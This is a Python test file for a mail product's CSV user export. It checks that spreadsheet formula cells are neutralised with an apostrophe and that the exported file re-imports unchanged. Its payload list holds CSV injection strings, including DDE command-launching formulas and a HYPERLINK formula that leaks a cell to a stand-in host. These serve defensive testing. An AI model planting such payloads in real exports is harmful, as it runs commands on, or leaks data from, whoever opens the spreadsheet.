"""CSV formula injection (issue 19, item 5): recipient fields from admins, CSV files and the
directory sync reach a spreadsheet through the console's export and `mailmoat users export`.
A cell a spreadsheet would run as a formula goes out with a leading apostrophe (OWASP), and a
re-import of the exported file gives back exactly the values that were exported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from mailmoat.local.users import export_csv, import_csv
from mailmoat.ports import Recipient
from mailmoat.runtime import Runtime
from tests.unit.admin.helpers import add_admin, make_runtime, open_console

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝cmd|' /C calc'!A0",  # full-width equals: Japanese Excel reads it as a formula sign too
    "'=already escaped by someone",
]
FORMULA_SIGNS = tuple("=+-@\t\r＝＋－＠")


def _synced(runtime: Runtime) -> list[Recipient]:
    # As a directory sync would store them: the values are whatever the provider holds.
    rows = [Recipient(address=f"user{n}@example.test", tenant="example.test", name=payload,
                      organisation=payload, department=payload, title=payload, memo=payload,
                      source="m365", external_id=f"id-{n}")
            for n, payload in enumerate(PAYLOADS)]
    runtime.services.directory.upsert_recipients(rows)
    return rows


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_SIGNS), f"a spreadsheet would run {cell!r}"


@pytest.fixture
def runtime(tmp_path: Path) -> Runtime:
    rt = make_runtime(tmp_path)
    add_admin(rt, "admin@example.test", "example.test")
    return rt


def test_users_export_neutralises_formula_cells_and_reimports_them_unchanged(runtime: Runtime) -> None:
    stored = _synced(runtime)
    exported = export_csv(runtime.services.directory, tenant="example.test")
    rows = _cells(exported)
    _assert_no_formula(rows)
    assert any(cell == "'=cmd|' /C calc'!A0" for row in rows for cell in row)
    result = import_csv(runtime.services.directory, exported.encode("utf-8"), tenant="example.test")
    assert not result.errors and result.applied
    for before in stored:
        after = runtime.services.directory.recipient(before.address)
        assert after is not None
        assert (after.name, after.organisation, after.memo) == (before.name, before.organisation, before.memo)


def test_console_export_neutralises_formula_cells(runtime: Runtime) -> None:
    _synced(runtime)
    console = open_console(runtime)
    assert console.login("admin@example.test").status_code == 303
    response = console.post("/admin/t/example.test/export", encoding="utf-8")
    assert response.status_code == 200
    rows = _cells(response.content.decode("utf-8-sig"))
    assert len(rows) > len(PAYLOADS)
    _assert_no_formula(rows)
